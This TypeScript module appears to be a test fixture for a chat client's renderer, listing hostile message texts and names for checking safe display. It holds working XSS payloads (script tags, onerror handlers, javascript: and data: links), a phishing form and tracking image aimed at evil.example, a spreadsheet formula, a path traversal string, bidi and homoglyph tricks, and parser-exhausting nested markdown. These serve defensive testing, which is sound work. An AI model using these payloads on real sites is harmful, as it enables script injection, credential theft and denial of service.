/** A text by somebody who means harm to whoever reads it, or did not know better. */
export interface Hostile {
  readonly what: string;
  readonly text: string;
}

export const textBytes = 16_384;
export const nameBytes = 120;

const bytesOf = (text: string): number => new TextEncoder().encode(text).length;

/** As often as it fits. */
function filled(piece: string, bytes = textBytes): string {
  return piece.repeat(Math.floor(bytes / bytesOf(piece)));
}

/** Whether the server takes it as the text of a message. */
export function isSendable({ text }: Hostile): boolean {
  return bytesOf(text) <= textBytes && /[^\p{White_Space}\p{Default_Ignorable_Code_Point}\u2800]/u.test(text) &&
    !/\r(?!\n)|(?![\n\t\r])\p{Cc}|\p{Cs}|\p{Noncharacter_Code_Point}/u.test(text);
}

/** Whether the server takes it as the name of a person, room or utility, and as a title. */
export function isNameable(name: Hostile): boolean {
  return isSendable(name) && bytesOf(name.text) <= nameBytes && !/[\n\t\r\u2028\u2029\u202a-\u202e\u2066-\u2069]/.test(name.text);
}

/**
 * Sets `window.harmed` where it runs: see `harm` below. A page that shows any of these must neither run it nor have the elements
 * and attributes that it names.
 */
const act = 'window.harmed=1';

export const markup: readonly Hostile[] = [
  { what: 'a script element', text: `<script>${act}</script>` },
  { what: 'a script element in odd letters', text: `<ScRiPt\n>${act}</sCrIpT >` },
  { what: 'a script from elsewhere', text: '<script src="https://evil.example/x.js"></script>' },
  { what: 'an image with a handler', text: `<img src=x onerror="${act}">` },
  { what: 'a drawing with a handler', text: `<svg onload=${act}><animate onbegin=${act} attributeName=x></svg>` },
  {
    what: 'a drawing with a script in another namespace',
    text: `<svg><foreignObject><script>${act}</script></foreignObject></svg>`,
  },
  { what: 'a frame', text: `<iframe srcdoc="<script>parent.${act}</script>"></iframe>` },
  { what: 'an object and an embed', text: '<object data="javascript:1"></object><embed src="javascript:1">' },
  {
    what: 'a form that sends elsewhere',
    text: '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  },
  {
    what: 'a base and a refresh',
    text: '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  },
  {
    what: 'a style that covers the page',
    text: '<style>*{display:none}</style><div style="position:fixed;inset:0">Log in again</div>',
  },
  { what: 'markup that is mended into other markup', text: `<math><mtext><table><mglyph><style><img src=x onerror="${act}">` },
  { what: 'a comment that is not closed', text: `<!-- <img src=x onerror="${act}"> --!> <b>after` },
  { what: 'a section of characters', text: `<![CDATA[<img src=x onerror="${act}">]]>` },
  {
    what: 'ends of what may surround it',
    text: `"'></p></div></main></template></textarea></title></noscript><img src=x onerror="${act}">`,
  },
  { what: 'markup as entities', text: `&lt;img src=x onerror=${act}&gt; &#60;script&#62;${act}&#60;/script&#62;` },
  { what: 'names that shadow the document', text: '<img name=getElementById><form id=body name=cookie></form><a id=harmed></a>' },
  { what: 'a template of a script', text: `\${${act}} {{constructor.constructor('${act}')()}} <%= ${act} %>` },
  { what: 'names of objects', text: '__proto__' },
  { what: 'another name of objects', text: 'constructor' },
];

export const links: readonly Hostile[] = [
  { what: 'a script', text: `[a](javascript:${act})` },
  { what: 'a script in odd letters', text: `[a](JaVaScRiPt:${act})` },
  { what: 'a script with white space in its scheme', text: `[a](java\tscript:${act}) [b](<java\nscript:${act}>)` },
  { what: 'a script after a control', text: `[a](<\u0001javascript:${act}>)` },
  {
    what: 'a script with entities in its scheme',
    text: `[a](&#106;avascript&colon;${act}) [b](javascript&#x3A;${act}) [c](java&Tab;script:${act})`,
  },
  { what: 'a script with escapes in its scheme', text: `[a](java\\script:${act}) [b](%6aavascript:${act})` },
  { what: 'a script in angle brackets', text: `<javascript:${act}>` },
  { what: 'a script by a definition', text: `[a][b]\n\n[b]: javascript:${act} "title"` },
  { what: 'a script as an image', text: `![a](javascript:${act}) ![b](x" onerror="${act})` },
  { what: 'a page in the address', text: `[a](data:text/html,<script>${act}</script>) [b](data:text/html;base64,PHNjcmlwdD4=)` },
  {
    what: 'other schemes',
    text: '[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](about:blank) [e](intent:x) [f](ws://evil.example)',
  },
  {
    what: 'a quotation mark in the address',
    text: `[a](https://evil.example/"onmouseover="${act}) [b](<https://evil.example/" onclick="${act}>)`,
  },
  { what: 'a quotation mark in the title', text: `[a](https://evil.example '"onmouseover="${act}')` },
  { what: 'the text of another address', text: '[https://bank.example/](https://evil.example/)' },
  {
    what: 'an address without a scheme',
    text: '[a](//evil.example) [b](/api/logout) [c](\\\\evil.example) [d](?x) [e](#x) [f]()',
  },
  {
    what: 'an address with a name and a password',
    text: '[a](https://bank.example@evil.example/) https://bank.example:80@evil.example/',
  },
  { what: 'a turned address', text: '[a](https://\u202eelpmaxe.live/) https://a.example/\u202egpj.exe' },
  { what: 'picture from elsewhere that tells who reads', text: '![seen](https://evil.example/seen.gif?who=me)' },
];

export const characters: readonly Hostile[] = [
  { what: 'controls', text: 'a\bb\u0007c\u000bd\u000ce\u001bf\u007fg\u0085h\u009bi' },
  { what: 'a zero', text: 'before\u0000after' },
  { what: 'line ends of other systems', text: 'a\r\nb\u2028c\u2029d' },
  { what: 'line ends that the server refuses', text: 'b\rc\n\rd\u0085e' },
  { what: 'orders to a terminal', text: '\u001b[31mred \u001b]8;;https://evil.example\u0007text\u001b]8;;\u0007 \u001b[2J' },
  { what: 'overrides of direction that are not closed', text: '\u202eevil \u202da \u202bb \u202ac' },
  { what: 'closers of isolates', text: 'a\u2069\u2069\u202c\u202c b' },
  { what: 'isolates that are not closed', text: '\u2066a\u2067b\u2068c' },
  { what: 'both directions', text: 'שלום hello مرحبا 123 (world) שלום' },
  { what: 'signs without width', text: 'pass\u200bword\u200c \u200d\u2060\ufeff\u00ad\u180e' },
  { what: 'nothing that can be seen', text: '\u200b\u2060\ufeff\u115f\u3164\u2800' },
  { what: 'letters that look like others', text: 'аdmіnіstrаtоr Ａｄａ' },
  { what: 'tags', text: '\u{e0041}\u{e0042}\u{e007f}' },
  { what: '10,000 marks on one letter', text: `a${'\u0301'.repeat(10_000)}` },
  { what: 'as many marks on one letter as may be sent', text: `a${filled('\u0301\u0489\u20d2', textBytes - 1)}` },
  { what: 'marks without a letter', text: '\u0301\u0302\u0303 \u20e3\ufe0f' },
  { what: 'people joined without end', text: filled('👩\u200d') },
  { what: 'flags without end', text: filled('🇰🇪') },
  { what: 'halves of surrogate pairs', text: 'a\ud800b\udc00c\udbff' },
  { what: 'noncharacters', text: '\ufffe\uffff\ufdd0\u{1fffe}' },
  { what: 'a very wide and a very high sign', text: `﷽${'꧅'.repeat(50)}\u{12031}` },
];

export const sizes: readonly Hostile[] = [
  { what: '16 kB without a space', text: filled('x') },
  { what: '16 kB of another script without a space', text: filled('水') },
  { what: '16 kB of an address', text: `https://example.org/${filled('x', textBytes - 20)}` },
  { what: '16 kB in one line of code', text: `\`${filled('x', textBytes - 2)}\`` },
  { what: '16 kB in a block of code', text: `\`\`\`\n${filled('x', textBytes - 8)}\n\`\`\`` },
  { what: 'only line ends', text: `a${filled('\n', textBytes - 2)}b` },
  { what: 'only short paragraphs', text: filled('a\n\n') },
  { what: 'only headings', text: filled('# a\n') },
  { what: 'only rules', text: filled('---\n\n') },
  { what: 'only links', text: filled('[a](http://b/) ') },
  { what: 'only bare addresses', text: filled('http://a.bc/ ') },
  { what: 'a wide table', text: `${filled('|a', 4000)}|\n${filled('|-', 4000)}|\n${filled('|b', 4000)}|` },
  { what: 'a table of mostly nothing', text: `${filled('|a', 2000)}|\n${filled('|-', 2000)}|\n${filled('|\n', 8000)}` },
  { what: 'one address that is meant by thousands', text: `[a]: http://b/${filled('x', 1900)}\n\n${filled('[a]', 14_000)}` },
];

export const depths: readonly Hostile[] = [
  { what: 'quotes in quotes', text: `${filled('>', textBytes - 1)}a` },
  { what: 'quotes in quotes, and a line for each', text: `${filled('> ', 8000)}a\n${filled('> b\n', 8000)}` },
  { what: 'lists in lists in one line', text: `${filled('- ', textBytes - 1)}a` },
  { what: 'numbered lists in lists in one line', text: `${filled('1. ', textBytes - 1)}a` },
  { what: 'a staircase of lists', text: Array.from({ length: 120 }, (_, depth) => `${' '.repeat(2 * depth)}- a\n`).join('') },
  { what: 'opening brackets', text: filled('[') },
  { what: 'brackets in brackets', text: filled('[', textBytes / 2) + filled(']', textBytes / 2) },
  { what: 'links in links', text: `${filled('[', 4000)}a${filled('](b)', 12_000)}` },
  { what: 'images in images', text: `${filled('![', 5000)}a${filled('](b)', 10_000)}` },
  { what: 'opening brackets and parentheses', text: filled('[a](') },
  { what: 'opening emphasis', text: filled('*a ') },
  { what: 'emphasis of both kinds', text: filled('*a_') },
  { what: 'emphasis in emphasis', text: `${filled('*', textBytes / 2 - 1)}a${filled('*', textBytes / 2 - 1)}` },
  { what: 'emphasis and strong in turn', text: `${filled('*a **b ', textBytes / 2)}${filled('c** d*', textBytes / 2 - 8)}` },
  { what: 'underlines and strikes', text: filled('_~~a ') },
  { what: 'rows of back ticks, each longer', text: Array.from({ length: 170 }, (_, n) => `a${'`'.repeat(n + 1)}`).join('') },
  { what: 'opening angle brackets', text: filled('<') },
  { what: 'opening tags', text: filled('<a ') },
  { what: 'opening comments', text: filled('<!--') },
  { what: 'opening declarations and instructions', text: filled('<!A <? ') },
  { what: 'ampersands', text: filled('&') },
  { what: 'backslashes', text: filled('\\') },
  { what: 'mail addresses that are none', text: filled('a@') },
  { what: 'dots of mail addresses', text: filled('a.b-c_d+', textBytes) },
  { what: 'addresses that are none', text: filled('http://') },
  { what: 'definitions', text: filled('[a]: b\n') },
  { what: 'spaces before a line end', text: `a${filled(' ', textBytes - 2)}b` },
  { what: 'tabs', text: `a${filled('\t', textBytes - 2)}b` },
];

/** All texts; some cannot be sent, but might come from a broken server or an altered copy. */
export const texts: readonly Hostile[] = [...markup, ...links, ...characters, ...sizes, ...depths];

/** What can be the name of a person, room or utility, or a title: one line of no more than 120 bytes. */
export const names: readonly Hostile[] = [
  ...markup.filter(({ text }) => bytesOf(text) <= nameBytes && !text.includes('\n')),
  { what: 'an override of direction', text: 'Ada \u202enimda' },
  { what: 'closers of isolates', text: 'Ada\u2069\u2069\u202c' },
  { what: 'written from right to left', text: 'ليلى بنحدّو' },
  { what: 'a name that cannot be seen', text: '\u2800\u3164' },
  { what: 'no space', text: filled('x', nameBytes) },
  { what: 'no space, in another script', text: filled('水', nameBytes) },
  { what: 'marks', text: `A${filled('\u0301', nameBytes - 1)}` },
  { what: 'Markdown', text: '**Ada** [link](javascript:1) `code` ![x](y)' },
  { what: 'an order to a sheet of numbers', text: '=HYPERLINK("https://evil.example")' },
  { what: 'a path', text: '../../etc/passwd' },
  { what: 'a number', text: '0' },
  { what: 'no value', text: 'null' },
];

/** Whether one of these has run in the page; to be evaluated there. */
export const harm =
  'Boolean(window.harmed) || document.querySelector("[onerror],[onload],[onclick],[onmouseover],[srcdoc]") !== null';
